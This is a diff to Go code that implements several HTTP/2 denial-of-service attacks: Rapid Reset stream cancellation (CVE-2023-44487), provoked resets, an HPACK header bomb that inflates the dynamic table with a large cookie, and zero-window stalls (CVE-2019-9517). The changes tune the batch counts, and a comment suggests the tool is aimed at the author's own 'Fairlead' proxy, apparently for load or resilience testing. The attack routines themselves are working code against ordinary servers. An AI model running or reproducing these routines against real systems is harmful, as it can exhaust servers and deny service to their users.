@@ -133,7 +133,7 @@ func settings(e *enemy) {
 
 // rapidReset opens streams and gives them up at once (CVE-2023-44487).
 func rapidReset(w *weapon) {
-	w.batches(3000, 50, nil, func(e *enemy) {
+	w.batches(1500, 20, nil, func(e *enemy) {
 		_ = e.WriteRSTStream(e.open("/", true), http2.ErrCodeCancel)
 	})
 }
@@ -149,9 +149,9 @@ func provokedResets(w *weapon) {
 			_ = e.WritePriority(id, http2.PriorityParam{StreamDep: id})
 		},
 	}
-	w.batches(3000, 50, nil, func(e *enemy) {
+	w.batches(1500, 20, nil, func(e *enemy) {
 		// Each connection asks in one way.
-		kinds[int(w.turn.Add(1)/50)%len(kinds)](e, e.open("/", true))
+		kinds[int(w.turn.Add(1)/20)%len(kinds)](e, e.open("/", true))
 	})
 }
 
@@ -182,7 +182,7 @@ func emptyFrames(w *weapon) {
 func http2Bomb(w *weapon) {
 	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
 	fill, refer := bombBlocks(1000, 60)
-	w.batches(400, 20, zero, func(e *enemy) {
+	w.batches(200, 5, zero, func(e *enemy) {
 		if e.id == 0 {
 			_ = e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.next(), BlockFragment: fill, EndHeaders: true, EndStream: true})
 			return
@@ -197,12 +197,14 @@ func http2Bomb(w *weapon) {
 // bombBlocks returns two requests: one that puts a cookie of some size into the
 // table, and one that refers to it so many times.
 func bombBlocks(size, times int) (fill, refer []byte) {
-	fill = bytes.Clone(request)
+	// Fairlead itself answers: who stands behind it is not to be measured.
+	start := block(":method", "GET", ":scheme", "https", ":authority", "one.example", ":path", "/own")
+	fill = bytes.Clone(start)
 	fill = append(fill, 0x40|32) // literal with indexing, the name cookie of the static table
 	fill = append(fill, 0x7f)
 	fill = binary.AppendUvarint(fill, uint64(size-127))
 	fill = append(fill, bytes.Repeat([]byte("a"), size)...)
-	refer = append(bytes.Clone(request), bytes.Repeat([]byte{0x80 | 62}, times)...)
+	refer = append(start, bytes.Repeat([]byte{0x80 | 62}, times)...)
 	return fill, refer
 }
 
@@ -221,5 +223,5 @@ func hpackBombs(w *weapon) {
 // zeroWindows ask for megabytes and take none of it (CVE-2019-9517).
 func zeroWindows(w *weapon) {
 	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
-	w.batches(400, 20, zero, func(e *enemy) { e.open("/big", true) })
+	w.batches(300, 10, zero, func(e *enemy) { e.open("/big", true) })
 }
